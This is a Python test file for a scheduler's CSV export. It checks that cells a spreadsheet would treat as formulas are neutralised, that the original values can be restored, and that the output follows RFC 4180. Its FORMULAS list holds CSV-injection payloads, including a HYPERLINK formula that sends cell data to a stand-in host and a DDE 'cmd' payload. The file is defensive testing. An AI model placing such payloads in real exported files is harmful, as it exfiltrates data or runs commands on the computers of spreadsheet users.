"""CSV files: what is written is read back, and no cell is a formula."""

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scheduler.csv_cells import defused, encoded, restored, written

FORMULAS = (
    '=HYPERLINK("https://evil.test?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "  =1+1", "＝1+1", "＋1", "－1", "＠A1",
)  # fmt: skip


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_a_spreadsheet_would_compute_is_text(cell: str) -> None:
    assert str(defused(cell)).startswith("'")
    assert restored(str(defused(cell))) == cell
    ((read,),) = read_back(written([cell], []))
    assert read == defused(cell)


@pytest.mark.parametrize("cell", FORMULAS[:5])
@pytest.mark.parametrize("before", ["x;", "x\n", "x\t", 'x;"', "x; "])
def test_so_it_is_where_a_program_parts_cells_by_other_signs(before: str, cell: str) -> None:
    hidden = before + cell
    assert restored(str(defused(hidden))) == hidden
    for sign in ",;\t":
        assert begins_no_formula(written(["a", "b"], [["x", hidden], [hidden, "x"]]), sign)
    assert not begins_no_formula(f"x,{hidden}", ";" if ";" in before else "\t")  # so that the test can fail


@given(st.lists(st.lists(st.text("=+-@;,\t\r\n'\" x＝"), min_size=2, max_size=2), max_size=3), st.sampled_from(",;\t"))
def test_no_text_is_a_formula_whatever_signs_part_it(rows: list[list[str]], sign: str) -> None:
    assert begins_no_formula(written(["a", "b"], rows), sign)
    assert all(restored(str(defused(cell))) == cell for row in rows for cell in row)


@pytest.mark.parametrize("cell", ["", "Ana", "a=b", "O'Hara", "5-6", "1@2", "a; b", "1\n2", -5, 0, 1.5, -0.25, None])
def test_anything_else_stays_what_it_is(cell: str | float | None) -> None:
    assert defused(cell) == cell


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2), max_size=4))
def test_any_text_comes_back_and_none_begins_a_formula(rows: list[list[str]]) -> None:
    read = read_back(written(["a", "b"], rows))
    assert read[0] == ["a", "b"]
    assert read[1:] == [[str(defused(cell)) for cell in row] for row in rows]
    assert not any(cell.lstrip()[:1] in set("=+-@") - {""} for row in read for cell in row if cell.lstrip())


def test_lines_are_those_of_rfc_4180() -> None:
    assert written(["a", "b"], [('say "yes"', "1,5"), ("two\nlines", None)]) == (
        'a,b\r\n"say ""yes""","1,5"\r\n"two\nlines",\r\n'
    )


def test_a_file_tells_a_spreadsheet_that_it_is_utf_8() -> None:
    assert encoded(["Núñez"], []) == b"\xef\xbb\xbfN\xc3\xba\xc3\xb1ez\r\n"


def begins_no_formula(text: str, sign: str) -> bool:
    read = csv.reader(StringIO(text, newline=""), delimiter=sign)
    return not any(cell.lstrip()[:1] in set("=+-@＝") for row in read for cell in row if cell.lstrip())


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(StringIO(text, newline="")))
